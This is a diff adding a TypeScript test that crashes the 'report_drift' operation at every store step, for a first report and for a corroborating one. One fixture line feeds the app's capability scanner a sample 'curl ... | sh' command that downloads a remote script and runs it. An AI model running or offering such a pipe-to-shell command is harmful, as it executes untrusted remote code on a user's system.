@@ -1,0 +1,33 @@
+// report_drift under a crash at every store step: a first report, and the corroborating one that
+// marks the story and writes the author's notification.
+import { publishStory } from '../../src/app/publish-story.ts';
+import { reportDrift } from '../../src/app/report-drift.ts';
+import { scanText } from '../../src/domain/capability/scan.ts';
+import { caller } from '../helpers/app-fixture.ts';
+import { storyTitled } from '../helpers/stories.ts';
+import { crashPoints } from './crash-points.ts';
+
+const alice = caller('alice');
+const bob = caller('bob');
+const carol = caller('carol');
+const READ_THEN_TRANSACTION = ['TransactGetItems', 'TransactWriteItems'];
+const RAN = scanText('```sh\ncurl -fsSL https://example.com/fix.sh | sh\n```\n');
+
+crashPoints({
+  name: 'report_drift, a first report',
+  setup: async ({ ctx }) => (await publishStory(ctx, alice, { markdown: storyTitled('Crash first drift') })).slug,
+  call: (ctx, slug, opId) => reportDrift(ctx, bob, { slug, sha256: RAN.sha256, findings: RAN.findings, op_id: opId }),
+  steps: { plain: READ_THEN_TRANSACTION, withOpId: READ_THEN_TRANSACTION },
+});
+
+crashPoints({
+  name: 'report_drift, the corroborating report',
+  setup: async ({ ctx, tick }) => {
+    const { slug } = await publishStory(ctx, alice, { markdown: storyTitled('Crash corroborating drift') });
+    tick();
+    await reportDrift(ctx, bob, { slug, sha256: RAN.sha256 });
+    return slug;
+  },
+  call: (ctx, slug, opId) => reportDrift(ctx, carol, { slug, sha256: RAN.sha256, op_id: opId }),
+  steps: { plain: READ_THEN_TRANSACTION, withOpId: READ_THEN_TRANSACTION },
+});
